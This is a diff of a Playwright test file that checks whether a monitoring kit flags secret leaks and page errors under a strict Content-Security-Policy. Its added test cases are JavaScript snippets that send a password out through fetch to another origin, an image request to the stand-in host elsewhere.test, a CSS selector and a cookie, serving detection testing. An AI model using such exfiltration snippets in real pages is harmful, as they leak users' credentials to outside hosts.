@@ -9,9 +9,10 @@ from playwright.sync_api import Browser, Page
 from testkit.network.invariants import INVARIANTS, Watch
 from testkit.secrets.vault import vault
 from testkit.settings.model import INVARIANT_IDS
-from tests.evidence.site import running_site
+from tests.evidence.site import PAGE, running_site
 
 PASSWORD = "correct-Horse-7-battery"
+POLICY = {"Content-Security-Policy": "default-src 'self'; connect-src *"}
 
 
 @pytest.fixture
@@ -28,6 +29,20 @@ def watched(browser: Browser) -> Iterator[tuple[Page, Watch]]:
         watch.before_close(context)
 
 
+@pytest.fixture
+def strict(any_browser: Browser) -> Iterator[tuple[Page, Watch]]:
+    """The same with a strict Content-Security-Policy, in each browser."""
+    with running_site() as site, any_browser.new_context(base_url=site) as context:
+        watch = Watch({site})
+        vault.add("password", PASSWORD)
+        watch.secrets_before = 0
+        watch.watch(context)
+        page = context.new_page()
+        page.route("**/reset", lambda route: route.fulfill(body=PAGE, content_type="text/html", headers=POLICY))
+        page.goto("/reset")
+        yield page, watch
+
+
 def broken(watch: Watch) -> set[str]:
     return {breach.invariant.id for breach in watch.breaches()}
 
@@ -41,18 +56,53 @@ def test_a_page_that_does_nothing_wrong_breaks_nothing(watched: tuple[Page, Watc
 @pytest.mark.parametrize(
     "script",
     [
-        "fetch('http://127.0.0.1:9/nobody-listens').catch(() => null)",
-        "console.error('Cross-Origin Request Blocked: at /exchange?token=' + secret)",  # Firefox's own words
+        "fetch('http://127.0.0.1:9/?token=' + secret).catch(() => null)",
+        "fetch(origin.replace('127.0.0.1', 'localhost') + '/?token=' + secret).catch(() => null)",
+        "document.head.append(Object.assign(document.createElement('style'), { textContent: `#${secret} {}` }))",
+        "document.body.append(Object.assign(new Image(), { src: `http://elsewhere.test/?token=${secret}` }))",
+        "document.cookie = `kept=${secret}; SameSite=None`",
     ],
+    ids=["nobody listens", "other origin", "inline style", "image elsewhere", "cookie"],
 )
-def test_what_the_browser_says_of_a_blocked_call_is_no_error_of_the_page(
-    watched: tuple[Page, Watch], script: str
+def test_what_the_browser_says_of_what_it_blocked_is_no_error_and_no_log_of_the_page(
+    strict: tuple[Page, Watch], script: str
 ) -> None:
-    page, watch = watched
+    page, watch = strict
 
     page.evaluate(f"async secret => {{ await ({script}); await new Promise(done => setTimeout(done, 50)); }}", PASSWORD)
 
+    assert not broken(watch) - {"secret-in-url", "secret-to-another-site"}  # these are about the call itself
+
+
+def test_a_screenshot_is_no_error_of_the_page(strict: tuple[Page, Watch]) -> None:
+    page, watch = strict
+
+    page.screenshot(mask=[page.get_by_label("New password")])
+
     assert not broken(watch)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "throw new Error('a slip')",
+        "throw 'a slip'",
+        "Promise.reject(new TypeError('a slip'))",
+        "Promise.reject({ status: 404 })",
+        "fetch('http://localhost:9/')",
+        "nothing.like.it",
+        "let a b",
+        "throw new Error('this violates the Content-Security-Policy')",
+    ],
+)
+def test_an_uncaught_error_is_found_whatever_it_is(strict: tuple[Page, Watch], script: str) -> None:
+    page, watch = strict
+    page.route("**/slip.js", lambda route: route.fulfill(body=script, content_type="text/javascript"))
+
+    with page.context.expect_event("weberror", lambda _: bool(watch.found)):
+        page.evaluate("document.head.append(Object.assign(document.createElement('script'), { src: '/slip.js' }))")
+
+    assert broken(watch) == {"page-error"}
 
 
 @pytest.mark.parametrize(
